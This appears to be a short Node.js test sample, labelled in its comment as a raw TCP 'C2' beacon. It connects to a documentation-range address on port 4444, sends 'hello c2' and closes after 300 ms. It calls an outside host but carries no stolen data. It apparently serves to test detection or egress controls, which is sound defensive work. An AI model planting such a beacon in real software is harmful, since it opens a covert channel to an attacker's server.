// A raw TCP "C2" beacon to a documentation address (198.51.100.0/24).
const net = require('net');
const s = net.connect(4444, '198.51.100.23', () => { s.write('hello c2'); });
s.on('data', () => {});
s.on('error', () => {});
setTimeout(() => s.destroy(), 300);
